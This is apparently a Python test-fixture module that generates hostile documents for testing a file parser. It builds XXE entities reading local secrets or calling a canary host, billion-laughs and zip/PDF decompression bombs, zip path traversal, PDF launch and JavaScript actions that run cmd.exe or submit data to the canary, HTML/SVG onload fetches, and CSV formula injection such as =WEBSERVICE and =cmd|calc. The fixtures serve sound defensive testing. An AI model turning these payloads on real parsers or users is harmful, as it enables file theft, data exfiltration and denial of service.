"""Documents that want to read files, to call out, to run, or to fill the memory."""

from __future__ import annotations

import io
import zipfile
import zlib

from tests.media.pdf_bytes import FONT, assemble, encrypted, pdf

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
BODY = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{{0}}</w:t></w:r></w:p></w:body></w:document>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
PACKED_BYTES, DRAWN_BYTES = 288 * 1024**2, 64 * 1024**2


def word(document: str, *, main: str = MAIN, links: str = "", **members: bytes) -> bytes:
    """A Word document of its few parts; `links` are relationships of the main one."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType='
        f'"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="x/y"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document,
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>',
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **members}.items():
            archive.writestr(name, content)
    return packed.getvalue()


def words(canary: str, secret: str) -> dict[str, bytes]:
    link = f'<Relationship Id="r{{0}}" Type="{OFFICE}/{{1}}" Target="{{2}}" TargetMode="External"/>'
    links = link.format(2, "attachedTemplate", f"http://{canary}/t.dotm") + link.format(3, "image", f"file://{secret}")
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "{0}">]>' + BODY.format("seen: &x;")
    outside = f'<!DOCTYPE d SYSTEM "http://{canary}/evil.dtd">' + BODY.format("plain")
    parameter = f'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://{canary}/p.dtd"> %p;]>' + BODY.format("plain")
    return {
        "docx entity of a file": word(entity.format(f"file://{secret}")),
        "docx entity of the network": word(entity.format(f"http://{canary}/x")),
        "docx dtd outside": word(outside),
        "docx parameter entity": word(parameter),
        "docx laughs": word(f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>' + BODY.format("&l9;")),
        "docx linked template and image": word(BODY.format("plain"), links=links),
        "docm macros": word(BODY.format("plain"), main=MACROS, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Shell"}),
        "docx traversal": word(BODY.format("plain"), **{"../../../../tmp/evil.xml": b"<evil/>"}),
        "docx bomb": word(BODY.format("a" * 1000), **{"word/bomb.bin": bytes(PACKED_BYTES)}),
        "docx bomb that lies": lying(word(BODY.format("a" * 10_000_000))),
    }


def lying(archive: bytes) -> bytes:
    """Every declared size of `word/document.xml` becomes small."""
    data = bytearray(archive)
    name = b"word/document.xml"
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = data.find(signature)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name:
                data[at + size_at : at + size_at + 4] = (100).to_bytes(4, "little")
            at = data.find(signature, at + 4)
    return bytes(data)


def locked_package() -> bytes:
    """As Office packs a document with a password: a compound file, that names what it holds."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


def nested_archive() -> bytes:
    inner = bytes(10_000_000)
    for _ in range(3):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inner.zip", inner)
        inner = packed.getvalue()
    return inner


def acting_pdf(canary: str, secret: str) -> bytes:
    """Opens, prints and closes with actions; its page has a link, a submit button and a stream kept elsewhere."""
    url = f"http://{canary}/pdf"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>"
    actions = [
        f"<< /S /URI /URI ({url}) >>",
        f"<< /S /Launch /F ({secret}) /Win << /F (cmd.exe) >> >>",
        f"<< /S /JavaScript /JS (this.submitForm\\('{url}'\\);) >>",
        f"<< /S /GoToR /F ({secret}) /D [0 /Fit] >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({url}) >> >>",
    ]
    first = 6
    chained = [each[:-2] + f"/Next {first + n + 1} 0 R >>" for n, each in enumerate(actions[:-1])] + actions[-1:]
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 8 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /AA << /O 7 0 R >> /Annots [%s] >>" % link,
        f"<< /Length 0 /F << /FS /URL /F ({url}) >> >>\nstream\n\nendstream".encode(),
        FONT,
        *(each.encode() for each in chained),
    ]
    return assemble(objects, b"/Root 1 0 R")


def bombed_pdf(size_bytes: int) -> bytes:
    """A page whose content is deflated twice."""
    packer = zlib.compressobj(1)
    once = b"".join([*(packer.compress(b" 0 0 m" * 174_763) for _ in range(size_bytes // 1024**2)), packer.flush()])
    content = zlib.compress(once)
    stream = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
            stream,
        ],
        b"/Root 1 0 R",
    )


def endless_pdf() -> bytes:
    """A tree of pages that holds itself and claims millions."""
    return assemble(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9999999 >>"], b"/Root 1 0 R"
    )


def pdfs(canary: str, secret: str) -> dict[str, bytes]:
    return {
        "pdf actions": acting_pdf(canary, secret),
        "pdf pages": pdf([[f"{n}"] for n in range(2000)], box="0 0 9 9"),
        "pdf endless": endless_pdf(),
        "pdf bomb": bombed_pdf(DRAWN_BYTES),
        "pdf locked": encrypted(),
    }


def pages(canary: str, secret: str) -> dict[str, bytes]:
    away = f'src="http://{canary}/a" onload="fetch(\'http://{canary}/b\')"'
    return {
        "html": f'<!doctype html><base href="http://{canary}/"><link rel=stylesheet href=/s.css><img {away}>'
        f'<iframe src="file://{secret}"></iframe><object data="file://{secret}"></object><script {away}></script>'
        f"<style>@import url(http://{canary}/c);</style><meta http-equiv=refresh content=0;url=http://{canary}/>"
        f"<p>Plain words.</p>".encode(),
        "xml entity": f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]><d>&x;</d>'.encode(),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" {away}><script>1</script></svg>'.encode(),
        "svg entity": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]>'
        f"<svg><text>&x;</text></svg>".encode(),
        "csv formula": f'name,sum\n"=WEBSERVICE(""http://{canary}/x"")",1\n"=cmd|calc",2\n'.encode(),
    }
